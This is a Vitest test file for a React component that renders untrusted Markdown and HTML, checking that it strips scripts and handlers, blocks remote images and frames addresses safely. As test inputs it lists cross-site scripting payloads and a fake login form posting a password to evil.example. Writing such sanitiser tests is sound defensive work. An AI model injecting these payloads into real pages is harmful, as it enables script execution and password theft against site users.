import { describe, expect, test } from 'vitest'
import { draw } from '../testing/draw.tsx'
import { obeysKitLaws } from '../testing/laws.tsx'
import { addressIn, sandboxOf } from './frame.ts'
import { ServerHtml } from './ServerHtml.tsx'

obeysKitLaws('ServerHtml', ServerHtml, { text: '<p>公告</p>', format: 'html' })

describe('ServerHtml', () => {
  test('reads Markdown and the HTML in it', async () => {
    const screen = await draw(<ServerHtml text={'# 标题\n\n**粗** <em>斜</em>'} />)
    await expect.element(screen.getByRole('heading', { name: '标题' })).toBeVisible()
    await expect.element(screen.getByText('粗')).toBeVisible()
    await expect.element(screen.getByText('斜')).toBeVisible()
  })

  test.each([
    '<img src=x onerror="window.ran = true">',
    '<script>window.ran = true</script>',
    '<svg onload="window.ran = true"></svg>',
    '<a href="javascript:window.ran = true">x</a>',
    '[x](javascript:window.ran=true)',
    '<a href="data:text/html,<script>1</script>">x</a>',
    '<form action="//evil.example"><input name=password><button>x</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body { display: none }</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div id="root" class="fixed" name="x">x</div>',
  ])('nothing in %j runs, restyles, asks or pretends', async (text) => {
    const screen = await draw(<ServerHtml text={`before ${text} after`} />)
    await expect.element(screen.getByText(/before/)).toBeInTheDocument()
    const html = screen.container.querySelector('[class*="html"]')?.innerHTML ?? ''
    expect(html).not.toMatch(
      /on\w+=|javascript:|data:|<(script|svg|form|input|button|iframe|style)|\s(style|id|class|name)=/i,
    )
    expect('ran' in window).toBe(false)
  })

  test('Markdown of strangers asks nobody for anything, and frames nothing', async () => {
    const asking =
      '<img src="/a.png"> ![x](/b.png) <picture><source srcset="/c.png"></picture> <video src="/d"></video>'
    const screen = await draw(<ServerHtml format="markdown" text={`before ${asking} <b>after</b>`} />)
    await expect.element(screen.getByText('after')).toBeVisible()
    expect(screen.container.querySelector('img, picture, source, video')).toBeNull()
    await screen.rerender(<ServerHtml format="markdown" text="https://a.example" />)
    await expect.element(screen.getByRole('link', { name: 'https://a.example' })).toBeVisible()
    expect(screen.container.querySelector('iframe')).toBeNull()
  })

  test('links leave in a window that cannot reach back', async () => {
    const screen = await draw(<ServerHtml text="[docs](https://example.com/docs)" />)
    const link = screen.getByRole('link', { name: 'docs' })
    await expect.element(link).toHaveAttribute('target', '_blank')
    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer')
  })

  test('an address alone is framed, with its host as the title', async () => {
    const screen = await draw(<ServerHtml text={`${location.origin}/nothing-here`} />)
    const frame = screen.getByTitle(`来自 ${location.host} 的内容`)
    await expect.element(frame).toHaveAttribute('sandbox', expect.not.stringContaining('allow-same-origin'))
    await expect.element(frame).toHaveAttribute('referrerpolicy', 'no-referrer')
  })
})

describe('an address to be framed', () => {
  test.each([
    ['https://a.example/x', 'https://a.example/x'],
    [' http://a.example ', 'http://a.example/'],
    ['https://a.example and more', undefined],
    ['javascript:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['//a.example', undefined],
    ['# https://a.example', undefined],
    ['', undefined],
  ])('in %j it is %j', (text, address) => {
    expect(addressIn(text)?.href).toBe(address)
  })

  test('keeps its origin only where that is a foreign one', () => {
    expect(sandboxOf(new URL('https://a.example'), 'https://b.example')).toContain('allow-same-origin')
    expect(sandboxOf(new URL('https://b.example/x'), 'https://b.example')).not.toContain('allow-same-origin')
  })
})
